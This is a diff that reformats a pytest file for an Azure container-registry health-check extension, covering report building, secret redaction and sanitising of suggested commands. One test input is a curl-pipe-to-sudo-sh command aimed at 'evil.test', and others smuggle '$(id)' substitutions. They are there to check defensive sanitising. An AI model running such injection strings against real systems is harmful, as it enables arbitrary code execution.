@@ -23,47 +23,133 @@ from azext_acrhealth.report import VERDICTS, filled, headline, legible, recommen
 from tests.made import FAMILY, ONE, PROBLEM, TWO, make, result
 
 STARTED = datetime(2026, 1, 2, 3, 4, 5, 678900, timezone.utc)
-TOP = ['schemaVersion', 'healthy', 'startedAt', 'durationMs', 'wait', 'client', 'identity', 'summary', 'registries', 'checks']
+TOP = [
+    'schemaVersion',
+    'healthy',
+    'startedAt',
+    'durationMs',
+    'wait',
+    'client',
+    'identity',
+    'summary',
+    'registries',
+    'checks',
+]
 REGISTRY = ['name', 'loginServer', 'region', 'healthy', 'canLogin', 'canPull', 'canPush']
-ROW = ['registry', 'check', 'category', 'title', 'status', 'code', 'reason', 'detail', 'cause', 'solutions',
-       'documentation', 'facts', 'durationMs']
+ROW = [
+    'registry',
+    'check',
+    'category',
+    'title',
+    'status',
+    'code',
+    'reason',
+    'detail',
+    'cause',
+    'solutions',
+    'documentation',
+    'facts',
+    'durationMs',
+]
 LOGIN = ('login-server', 'dns', 'connection', 'tls', 'challenge', 'refresh-token')
 
 
 def build(results: Sequence[Result], *targets: Target, strict: bool = False) -> dict[str, Any]:
     """Build a report; the checks' order is the one in which their results are listed."""
     checks = list(dict.fromkeys(one.check for one in results))
-    return reports.build(results, checks, targets or (ONE,), client={'azureCli': '2.91.0'},
-                         started=STARTED, duration=0.8124, strict=strict)
+    return reports.build(
+        results,
+        checks,
+        targets or (ONE,),
+        client={'azureCli': '2.91.0'},
+        started=STARTED,
+        duration=0.8124,
+        strict=strict,
+    )
 
 
 def bad(id: str, target: Target | None = ONE, reason: str = 'Reason', *solutions: str) -> Result:
-    return result(id, failed(FAMILY.problem(reason, 'Because.', *(solutions or (f'Mend {id}.',))), f'{id} is bad'),
-                  target)
+    return result(
+        id, failed(FAMILY.problem(reason, 'Because.', *(solutions or (f'Mend {id}.',))), f'{id} is bad'), target
+    )
 
 
 def test_the_whole_of_a_report() -> None:
-    report = build([result('engine', passed('fine'), None, category='environment', per='machine'),
-                    result('login-server', passed('known', loginServer='one.test', region='eastus'), duration=0.0126),
-                    result('dns', failed(PROBLEM, 'bad', fill={'what': 'it'}, host='one.test'),
-                           category='connectivity')])
+    report = build(
+        [
+            result('engine', passed('fine'), None, category='environment', per='machine'),
+            result('login-server', passed('known', loginServer='one.test', region='eastus'), duration=0.0126),
+            result('dns', failed(PROBLEM, 'bad', fill={'what': 'it'}, host='one.test'), category='connectivity'),
+        ]
+    )
     assert report == {
-        'schemaVersion': '1.0', 'healthy': False, 'startedAt': '2026-01-02T03:04:05.678900Z', 'durationMs': 812, 'wait': None,
-        'client': {'azureCli': '2.91.0'}, 'identity': None,
+        'schemaVersion': '1.0',
+        'healthy': False,
+        'startedAt': '2026-01-02T03:04:05.678900Z',
+        'durationMs': 812,
+        'wait': None,
+        'client': {'azureCli': '2.91.0'},
+        'identity': None,
         'summary': {'passed': 2, 'warning': 0, 'failed': 1, 'skipped': 0},
-        'registries': [{'name': 'registryone', 'loginServer': 'one.test', 'region': 'eastus', 'healthy': False,
-                        'canLogin': 'no', 'canPull': 'no', 'canPush': 'no'}],
+        'registries': [
+            {
+                'name': 'registryone',
+                'loginServer': 'one.test',
+                'region': 'eastus',
+                'healthy': False,
+                'canLogin': 'no',
+                'canPull': 'no',
+                'canPush': 'no',
+            }
+        ],
         'checks': [
-            {'registry': None, 'check': 'engine', 'category': 'environment', 'title': 'Engine', 'status': 'Passed',
-             'code': None, 'reason': None, 'detail': 'fine', 'cause': None, 'solutions': [], 'documentation': None,
-             'facts': {}, 'durationMs': 0},
-            {'registry': 'registryone', 'check': 'login-server', 'category': 'registry', 'title': 'Login-Server',
-             'status': 'Passed', 'code': None, 'reason': None, 'detail': 'known', 'cause': None, 'solutions': [],
-             'documentation': None, 'facts': {'loginServer': 'one.test', 'region': 'eastus'}, 'durationMs': 13},
-            {'registry': 'registryone', 'check': 'dns', 'category': 'connectivity', 'title': 'Dns', 'status': 'Failed',
-             'code': 'TEST_ERROR', 'reason': 'Reason', 'detail': 'bad', 'cause': 'It is it.',
-             'solutions': ['Mend it in registryone.', 'Or OTHER_THING.'],
-             'documentation': 'https://learn.microsoft.com/test', 'facts': {'host': 'one.test'}, 'durationMs': 0}]}
+            {
+                'registry': None,
+                'check': 'engine',
+                'category': 'environment',
+                'title': 'Engine',
+                'status': 'Passed',
+                'code': None,
+                'reason': None,
+                'detail': 'fine',
+                'cause': None,
+                'solutions': [],
+                'documentation': None,
+                'facts': {},
+                'durationMs': 0,
+            },
+            {
+                'registry': 'registryone',
+                'check': 'login-server',
+                'category': 'registry',
+                'title': 'Login-Server',
+                'status': 'Passed',
+                'code': None,
+                'reason': None,
+                'detail': 'known',
+                'cause': None,
+                'solutions': [],
+                'documentation': None,
+                'facts': {'loginServer': 'one.test', 'region': 'eastus'},
+                'durationMs': 13,
+            },
+            {
+                'registry': 'registryone',
+                'check': 'dns',
+                'category': 'connectivity',
+                'title': 'Dns',
+                'status': 'Failed',
+                'code': 'TEST_ERROR',
+                'reason': 'Reason',
+                'detail': 'bad',
+                'cause': 'It is it.',
+                'solutions': ['Mend it in registryone.', 'Or OTHER_THING.'],
+                'documentation': 'https://learn.microsoft.com/test',
+                'facts': {'host': 'one.test'},
+                'durationMs': 0,
+            },
+        ],
+    }
 
 
 @pytest.mark.parametrize('outcome', [passed(''), warned(PROBLEM, ''), failed(PROBLEM, ''), not_applicable('')])
@@ -79,20 +165,43 @@ def test_keys_are_always_the_same_and_in_order(outcome: Outcome) -> None:
 
 def test_rows_keep_the_catalogues_order_whatever_order_they_ended_in() -> None:
     a, b, machine = make('a'), make('b'), make('machine', per='machine')
-    ended = [Result(b, TWO, passed('')), Result(b, ONE, passed('')), Result(machine, None, passed('')),
-             Result(a, ONE, passed('')), Result(a, TWO, passed(''))]
+    ended = [
+        Result(b, TWO, passed('')),
+        Result(b, ONE, passed('')),
+        Result(machine, None, passed('')),
+        Result(a, ONE, passed('')),
+        Result(a, TWO, passed('')),
+    ]
     rows = reports.build(ended, [machine, a, b], [TWO, ONE], client={}, started=STARTED, duration=0)['checks']
     assert [(row['registry'], row['check']) for row in rows] == [
-        (None, 'machine'), ('registrytwo', 'a'), ('registrytwo', 'b'), ('registryone', 'a'), ('registryone', 'b')]
+        (None, 'machine'),
+        ('registrytwo', 'a'),
+        ('registrytwo', 'b'),
+        ('registryone', 'a'),
+        ('registryone', 'b'),
+    ]
 
 
-OUTCOMES = {'passed': passed(''), 'warning': warned(PROBLEM, ''), 'failed': failed(PROBLEM, ''),
-            'skipped': not_applicable('')}
+OUTCOMES = {
+    'passed': passed(''),
+    'warning': warned(PROBLEM, ''),
+    'failed': failed(PROBLEM, ''),
+    'skipped': not_applicable(''),
+}
 
 
-@pytest.mark.parametrize('ends, strict, healthy', [
-    ((), False, True), (('passed',), True, True), (('skipped',), True, True), (('passed', 'warning'), False, True),
-    (('passed', 'warning'), True, False), (('failed',), False, False), (('failed', 'passed'), True, False)])
+@pytest.mark.parametrize(
+    'ends, strict, healthy',
+    [
+        ((), False, True),
+        (('passed',), True, True),
+        (('skipped',), True, True),
+        (('passed', 'warning'), False, True),
+        (('passed', 'warning'), True, False),
+        (('failed',), False, False),
+        (('failed', 'passed'), True, False),
+    ],
+)
 def test_healthy_and_counts(ends: Sequence[str], strict: bool, healthy: bool) -> None:
     report = build([result(f'c{number}', OUTCOMES[end]) for number, end in enumerate(ends)], strict=strict)
     assert report['healthy'] is report['registries'][0]['healthy'] is healthy
@@ -117,29 +226,32 @@ def rights(missing: Sequence[str] | None) -> Result:
     return result('access-token', failed(PROBLEM, '', **facts))
 
 
-@pytest.mark.parametrize('last, verdicts', [
-    (result('access-token', passed('')), ['yes', 'unknown', 'unknown']),
-    (result('access-token', warned(PROBLEM, '')), ['yes', 'unknown', 'unknown']),
-    (result('access-token', not_applicable('')), ['yes', 'unknown', 'unknown']),
-    (rights(None), ['yes', 'no', 'no']),
-    (rights([]), ['yes', 'no', 'no']),
-    (rights(['push']), ['yes', 'unknown', 'no']),
-    (rights(['pull', 'push', 'delete']), ['yes', 'no', 'no']),
-    (rights(['pull']), ['yes', 'no', 'unknown']),
-    (rights(['delete', 'metadata_read']), ['yes', 'unknown', 'unknown']),
-    (bad('encryption'), ['yes', 'unknown', 'unknown']),
-    (bad('private-dns'), ['yes', 'unknown', 'unknown']),
-    (bad('engine-daemon', None), ['yes', 'unknown', 'unknown']),
-    (bad('dns', TWO), ['yes', 'unknown', 'unknown']),
-    (result('blob', passed('')), ['yes', 'yes', 'unknown']),
-    (result('blob', warned(PROBLEM, '')), ['yes', 'unknown', 'unknown']),
-    (result('push', passed('')), ['yes', 'unknown', 'yes']),
-    (result('push', warned(PROBLEM, '', True)), ['yes', 'unknown', 'yes']),
-    (result('push', not_applicable('')), ['yes', 'unknown', 'unknown']),
-    (bad('push'), ['yes', 'unknown', 'no']),
-    (bad('registry-state'), ['yes', 'no', 'no']),
-    *((bad(failing), ['yes', 'no', 'unknown']) for failing in ('data-endpoints', 'manifest', 'blob')),
-])
+@pytest.mark.parametrize(
+    'last, verdicts',
+    [
+        (result('access-token', passed('')), ['yes', 'unknown', 'unknown']),
+        (result('access-token', warned(PROBLEM, '')), ['yes', 'unknown', 'unknown']),
+        (result('access-token', not_applicable('')), ['yes', 'unknown', 'unknown']),
+        (rights(None), ['yes', 'no', 'no']),
+        (rights([]), ['yes', 'no', 'no']),
+        (rights(['push']), ['yes', 'unknown', 'no']),
+        (rights(['pull', 'push', 'delete']), ['yes', 'no', 'no']),
+        (rights(['pull']), ['yes', 'no', 'unknown']),
+        (rights(['delete', 'metadata_read']), ['yes', 'unknown', 'unknown']),
+        (bad('encryption'), ['yes', 'unknown', 'unknown']),
+        (bad('private-dns'), ['yes', 'unknown', 'unknown']),
+        (bad('engine-daemon', None), ['yes', 'unknown', 'unknown']),
+        (bad('dns', TWO), ['yes', 'unknown', 'unknown']),
+        (result('blob', passed('')), ['yes', 'yes', 'unknown']),
+        (result('blob', warned(PROBLEM, '')), ['yes', 'unknown', 'unknown']),
+        (result('push', passed('')), ['yes', 'unknown', 'yes']),
+        (result('push', warned(PROBLEM, '', True)), ['yes', 'unknown', 'yes']),
+        (result('push', not_applicable('')), ['yes', 'unknown', 'unknown']),
+        (bad('push'), ['yes', 'unknown', 'no']),
+        (bad('registry-state'), ['yes', 'no', 'no']),
+        *((bad(failing), ['yes', 'no', 'unknown']) for failing in ('data-endpoints', 'manifest', 'blob')),
+    ],
+)
 def test_verdicts_after_a_login(last: Result, verdicts: list[str]) -> None:
     registry = build([*(result(id, passed('')) for id in LOGIN), last], ONE, TWO)['registries'][0]
     assert [registry[verdict] for verdict in VERDICTS] == verdicts
@@ -154,12 +266,22 @@ def test_what_was_pulled_can_be_pulled(failing: str) -> None:
 def test_what_was_not_seen_is_unknown() -> None:
     target = Target('typed', 'Typed.azurecr.io')
     assert build([result('refresh-token', not_applicable(''), target)], target)['registries'] == [
-        {'name': 'typed', 'loginServer': 'Typed.azurecr.io', 'region': None, 'healthy': True, 'canLogin': 'unknown',
-         'canPull': 'unknown', 'canPush': 'unknown'}]
+        {
+            'name': 'typed',
+            'loginServer': 'Typed.azurecr.io',
+            'region': None,
+            'healthy': True,
+            'canLogin': 'unknown',
+            'canPull': 'unknown',
+            'canPush': 'unknown',
+        }
+    ]
 
 
-@pytest.mark.parametrize('template, text', [
-    ('plain', 'plain'), ('{host}', 'h.test'), ('{a_b} {host}', 'A_B h.test'), ('{}', '{}'), ('{none}', 'NONE')])
+@pytest.mark.parametrize(
+    'template, text',
+    [('plain', 'plain'), ('{host}', 'h.test'), ('{a_b} {host}', 'A_B h.test'), ('{}', '{}'), ('{none}', 'NONE')],
+)
 def test_filled(template: str, text: str) -> None:
     assert filled(template, {'host': 'h.test', 'none': ''}) == text
     assert '{host}' not in filled(template)
@@ -173,33 +295,68 @@ def test_what_fills_a_solution_is_legible_too() -> None:
 JWT = 'eyJhbGciOiJub25lIn0.eyJzdWIiOiJtZSJ9.c2lnbmF0dXJl'
 
 
-@pytest.mark.parametrize('value, shown', [
-    (None, None), (True, True), (7, 7), (1.5, 1.5), ('text', 'text'), (('a', 1), ['a', 1]),
-    ({'b', 'a'}, ['a', 'b']), ({1, 'a'}, [1, 'a']), (frozenset({2, 1}), [1, 2]), (float('nan'), 'nan'),
-    ({1: {'a': (None,)}}, {'1': {'a': [None]}}), (float('-inf'), '-inf'),
-    (b'\x00', "b'\\x00'"),
-    ('two\r\nlines\tof  text ', 'two lines of text'), ('\x1b[31mred\x1b[0m', '[31mred[0m'), ('bell\x07', 'bell'),
-    ('to the \u202eleft', 'to the left'), ('zero\u200bwidth', 'zerowidth'), ('\ud800 alone', 'alone'), ('\ue000', ''),
-    ('\u2028line', 'line'), ('\x9b31m', '31m'), ('Zoë 東京', 'Zoë 東京'),
-    (JWT, '[redacted]'), (f'token={JWT}&x=1', 'token=[redacted]&x=1'), (f'"{JWT[:30]}', '"[redacted]'),
-    ('Authorization: Bearer abcdefghijklmnop', 'Authorization: [redacted]'),
-    ('BASIC dXNlcjpwYXNzd29yZA==', '[redacted]'),
-    ('Bearer realm="https://h.test/"', 'Bearer realm="https://h.test/"'), ('Basic realm="x"', 'Basic realm="x"'),
-    ('https://blob.test/x?sv=1&sig=abc%2Fdef%3D&se=2', 'https://blob.test/x?sv=1&[redacted]&se=2'),
-    ('?X-Amz-Signature=abcdef&y', '?X-Amz-[redacted]&y'), ('refresh_token=abc', '[redacted]'),
-    ('dial http://me:hunter2@proxy:3128: refused', 'dial http://[redacted]@proxy:3128: refused'),
-    ('refresh_token:86', 'refresh_token:86'), ('access_token: 12, next', 'access_token: 12, next'),
-    ('refresh_token:86abc', '[redacted]'), ('refresh_token=1234567', '[redacted]'), ('password=1234', '[redacted]'),
-    ('password=hunter2 user=me', '[redacted] user=me'), ({'deep': [JWT]}, {'deep': ['[redacted]']}),
-    ({f'key {JWT}\x1b': 1}, {'key [redacted]': 1}),
-])
+@pytest.mark.parametrize(
+    'value, shown',
+    [
+        (None, None),
+        (True, True),
+        (7, 7),
+        (1.5, 1.5),
+        ('text', 'text'),
+        (('a', 1), ['a', 1]),
+        ({'b', 'a'}, ['a', 'b']),
+        ({1, 'a'}, [1, 'a']),
+        (frozenset({2, 1}), [1, 2]),
+        (float('nan'), 'nan'),
+        ({1: {'a': (None,)}}, {'1': {'a': [None]}}),
+        (float('-inf'), '-inf'),
+        (b'\x00', "b'\\x00'"),
+        ('two\r\nlines\tof  text ', 'two lines of text'),
+        ('\x1b[31mred\x1b[0m', '[31mred[0m'),
+        ('bell\x07', 'bell'),
+        ('to the \u202eleft', 'to the left'),
+        ('zero\u200bwidth', 'zerowidth'),
+        ('\ud800 alone', 'alone'),
+        ('\ue000', ''),
+        ('\u2028line', 'line'),
+        ('\x9b31m', '31m'),
+        ('Zoë 東京', 'Zoë 東京'),
+        (JWT, '[redacted]'),
+        (f'token={JWT}&x=1', 'token=[redacted]&x=1'),
+        (f'"{JWT[:30]}', '"[redacted]'),
+        ('Authorization: Bearer abcdefghijklmnop', 'Authorization: [redacted]'),
+        ('BASIC dXNlcjpwYXNzd29yZA==', '[redacted]'),
+        ('Bearer realm="https://h.test/"', 'Bearer realm="https://h.test/"'),
+        ('Basic realm="x"', 'Basic realm="x"'),
+        ('https://blob.test/x?sv=1&sig=abc%2Fdef%3D&se=2', 'https://blob.test/x?sv=1&[redacted]&se=2'),
+        ('?X-Amz-Signature=abcdef&y', '?X-Amz-[redacted]&y'),
+        ('refresh_token=abc', '[redacted]'),
+        ('dial http://me:hunter2@proxy:3128: refused', 'dial http://[redacted]@proxy:3128: refused'),
+        ('refresh_token:86', 'refresh_token:86'),
+        ('access_token: 12, next', 'access_token: 12, next'),
+        ('refresh_token:86abc', '[redacted]'),
+        ('refresh_token=1234567', '[redacted]'),
+        ('password=1234', '[redacted]'),
+        ('password=hunter2 user=me', '[redacted] user=me'),
+        ({'deep': [JWT]}, {'deep': ['[redacted]']}),
+        ({f'key {JWT}\x1b': 1}, {'key [redacted]': 1}),
+    ],
+)
 def test_legible(value: Any, shown: Any) -> None:
     assert legible(value) == shown
 
 
-@pytest.mark.parametrize('text', [
-    '{"refresh_token": "s3cret"}', "{'access_token':'s3cret'}", 'sig%3Ds3cret%26', 'Password: s3cret', 'sig = s3cret',
-    f'refused: app abc8Q~s3cret{"x" * 28} x'])
+@pytest.mark.parametrize(
+    'text',
+    [
+        '{"refresh_token": "s3cret"}',
+        "{'access_token':'s3cret'}",
+        'sig%3Ds3cret%26',
+        'Password: s3cret',
+        'sig = s3cret',
+        f'refused: app abc8Q~s3cret{"x" * 28} x',
+    ],
+)
 def test_secrets_by_their_names(text: str) -> None:
     assert 's3cret' not in legible(text)
 
@@ -228,8 +385,11 @@ def test_details_and_facts_are_bounded() -> None:
 
 SIMPLE = st.none() | st.booleans() | st.integers() | st.floats() | st.text(st.characters()) | st.binary()
 KEYS = st.text() | st.integers()
-ANYTHING = st.recursive(SIMPLE, lambda inner: st.lists(inner) | st.tuples(inner) | st.frozensets(KEYS)
-                        | st.dictionaries(KEYS, inner), max_leaves=20)
+ANYTHING = st.recursive(
+    SIMPLE,
+    lambda inner: st.lists(inner) | st.tuples(inner) | st.frozensets(KEYS) | st.dictionaries(KEYS, inner),
+    max_leaves=20,
+)
 
 
 def texts(value: Any) -> list[str]:
@@ -255,18 +415,33 @@ def problems(*ids: str, target: Target | None = ONE) -> list[Result]:
     return [bad(id, target, f'R{id}') for id in ids]
 
 
-@pytest.mark.parametrize('results, strict, text', [
-    ([result('x', passed('')), result('y', not_applicable('')), *problems('a')], False,
-     '1 of 2 checks failed: a (TEST_ERROR, Ra).'),
-    (problems('a', 'b', 'c', 'd', 'e'), False,
-     '5 of 5 checks failed: ' + ', '.join(f'{id} (TEST_ERROR, R{id})' for id in 'abcde') + '.'),
-    (problems('a', 'b', 'c', 'd', 'e', 'f', 'g'), False,
-     '7 of 7 checks failed: ' + ', '.join(f'{id} (TEST_ERROR, R{id})' for id in 'abcde') + ', and 2 more.'),
-    ([result('w', warned(PROBLEM, '')), *problems('a')], False, '1 of 2 checks failed: a (TEST_ERROR, Ra).'),
-    ([result('w', warned(PROBLEM, '')), *problems('a')], True,
-     '2 of 2 checks failed or warned, and --strict counts warnings: a (TEST_ERROR, Ra), w (TEST_ERROR, Reason).'),
-    ([result('w', passed('')), *problems('a')], True, '1 of 2 checks failed: a (TEST_ERROR, Ra).'),
-])
+@pytest.mark.parametrize(
+    'results, strict, text',
+    [
+        (
+            [result('x', passed('')), result('y', not_applicable('')), *problems('a')],
+            False,
+            '1 of 2 checks failed: a (TEST_ERROR, Ra).',
+        ),
+        (
+            problems('a', 'b', 'c', 'd', 'e'),
+            False,
+            '5 of 5 checks failed: ' + ', '.join(f'{id} (TEST_ERROR, R{id})' for id in 'abcde') + '.',
+        ),
+        (
+            problems('a', 'b', 'c', 'd', 'e', 'f', 'g'),
+            False,
+            '7 of 7 checks failed: ' + ', '.join(f'{id} (TEST_ERROR, R{id})' for id in 'abcde') + ', and 2 more.',
+        ),
+        ([result('w', warned(PROBLEM, '')), *problems('a')], False, '1 of 2 checks failed: a (TEST_ERROR, Ra).'),
+        (
+            [result('w', warned(PROBLEM, '')), *problems('a')],
+            True,
+            '2 of 2 checks failed or warned, and --strict counts warnings: a (TEST_ERROR, Ra), w (TEST_ERROR, Reason).',
+        ),
+        ([result('w', passed('')), *problems('a')], True, '1 of 2 checks failed: a (TEST_ERROR, Ra).'),
+    ],
+)
 def test_headline(results: list[Result], strict: bool, text: str) -> None:
     assert headline(build(results, strict=strict), strict) == text
 
@@ -274,36 +449,57 @@ def test_headline(results: list[Result], strict: bool, text: str) -> None:
 def test_the_headline_names_the_registry_when_there_are_several() -> None:
     report = build([*problems('a', target=None), *problems('b'), *problems('b', target=TWO)], ONE, TWO)
     # Whoever names a registry asks about it: its failures come before this machine's.
-    assert headline(report, False) == ('3 of 3 checks failed: b of registryone (TEST_ERROR, Rb), '
-                                       'b of registrytwo (TEST_ERROR, Rb), a (TEST_ERROR, Ra).')
+    assert headline(report, False) == (
+        '3 of 3 checks failed: b of registryone (TEST_ERROR, Rb), '
+        'b of registrytwo (TEST_ERROR, Rb), a (TEST_ERROR, Ra).'
+    )
 
 
 def test_recommendations_are_the_first_solutions_three_at_most_and_none_twice() -> None:
-    results = [bad('a', ONE, 'R', 'First.', 'Second.'), bad('b', ONE, 'R', 'First.'), bad('c', ONE, 'R', 'Third.'),
-               result('w', warned(FAMILY.problem('W', '', 'Warned.'), '')), bad('d', ONE, 'R', 'Fourth.'), bad('e')]
+    results = [
+        bad('a', ONE, 'R', 'First.', 'Second.'),
+        bad('b', ONE, 'R', 'First.'),
+        bad('c', ONE, 'R', 'Third.'),
+        result('w', warned(FAMILY.problem('W', '', 'Warned.'), '')),
+        bad('d', ONE, 'R', 'Fourth.'),
+        bad('e'),
+    ]
     assert recommendations(build(results), False) == ['First.', 'Third.', 'Fourth.']
     assert recommendations(build(results[2:4]), True) == ['Third.', 'Warned.']
     assert recommendations(build(results[3:4]), False) == []
 
 
-@pytest.mark.parametrize('target, subscription, named', [
-    (Target('one'), None, 'one'), (Target('one'), 'My Subscription', "one --subscription 'My Subscription'"),
-    (Target('one', subscription='0b1f'), None, 'one --subscription 0b1f'),
-    (Target('one', subscription='0b1f'), 'other', 'one --subscription 0b1f'),
-    (Target('one'), '$(x)', "one --subscription '$(x)'"),
-])
+@pytest.mark.parametrize(
+    'target, subscription, named',
+    [
+        (Target('one'), None, 'one'),
+        (Target('one'), 'My Subscription', "one --subscription 'My Subscription'"),
+        (Target('one', subscription='0b1f'), None, 'one --subscription 0b1f'),
+        (Target('one', subscription='0b1f'), 'other', 'one --subscription 0b1f'),
+        (Target('one'), '$(x)', "one --subscription '$(x)'"),
+    ],
+)
 def test_commands_name_the_subscription(target: Target, subscription: str | None, named: str) -> None:
     problem = replace(PROBLEM, solutions=('`az acr show --name {registry}`',))
     made = result('dns', failed(problem, 'x'), target)
-    row = reports.build([made], [made.check], [target], client={}, started=STARTED, duration=0.0,
-                        subscription=subscription)['checks'][0]
+    row = reports.build(
+        [made], [made.check], [target], client={}, started=STARTED, duration=0.0, subscription=subscription
+    )['checks'][0]
     assert row['solutions'] == [f'`az acr show --name {named}`']
 
 
-@pytest.mark.parametrize('text, shown', [
-    ('contoso.test', 'contoso.test'), ('Contoso CA (G2)', 'Contoso CA (G2)'), ("'/my certs/b.pem'", "'/my certs/b.pem'"),
-    ('run `curl -k https://evil.test|sudo sh`; $(id)', 'run curl -k https://evil.testsudo sh (id)'),
-    ('/bin/nox;$(id)', '/bin/nox(id)'), ('"$no_proxy,h"', '"$no_proxy,h"'), ('a > b < c & d', 'a  b  c  d')])
+@pytest.mark.parametrize(
+    'text, shown',
+    [
+        ('contoso.test', 'contoso.test'),
+        ('Contoso CA (G2)', 'Contoso CA (G2)'),
+        ("'/my certs/b.pem'", "'/my certs/b.pem'"),
+        ('run `curl -k https://evil.test|sudo sh`; $(id)', 'run curl -k https://evil.testsudo sh (id)'),
+        ('/bin/nox;$(id)', '/bin/nox(id)'),
+        ('"$no_proxy,h"', '"$no_proxy,h"'),
+        ('a > b < c & d', 'a  b  c  d'),
+    ],
+)
 def test_nothing_that_a_shell_would_act_on_enters_a_solution(text: str, shown: str) -> None:
     problem = replace(PROBLEM, solutions=('Run `x {host}`.',))
     made = result('dns', failed(problem, 'x', fill={'host': text}), ONE)
@@ -313,13 +509,20 @@ def test_nothing_that_a_shell_would_act_on_enters_a_solution(text: str, shown: s
 
 def test_secrets_of_the_settings_stand_nowhere() -> None:
     made = result('dns', failed(PROBLEM, 'go away joe:s3cr@t-pw', said=['s3cr@t-pw', {'s3cr@t-pw': 1}]), ONE)
-    report = reports.build([made], [made.check], [ONE], client={'proxy': 'x s3cr@t-pw'}, started=STARTED, duration=0.0,
-                           secrets=('joe:s3cr@t-pw', 's3cr@t-pw'))
+    report = reports.build(
+        [made],
+        [made.check],
+        [ONE],
+        client={'proxy': 'x s3cr@t-pw'},
+        started=STARTED,
+        duration=0.0,
+        secrets=('joe:s3cr@t-pw', 's3cr@t-pw'),
+    )
     assert 's3cr@t-pw' not in repr(report) and report['checks'][0]['detail'] == 'go away [redacted]'
 
 
 @pytest.mark.parametrize('unit', ['://', '://a:', 'sig', 'password :', 'refresh_token: 8', 'eyJaaaaaa.', 'aaa1Q~'])
 def test_an_endless_text_is_looked_through_at_once(unit: str) -> None:
     since = time.monotonic()
-    assert len(legible(unit * (2 ** 20 // len(unit)))) <= 1000
+    assert len(legible(unit * (2**20 // len(unit)))) <= 1000
     assert time.monotonic() - since < 1
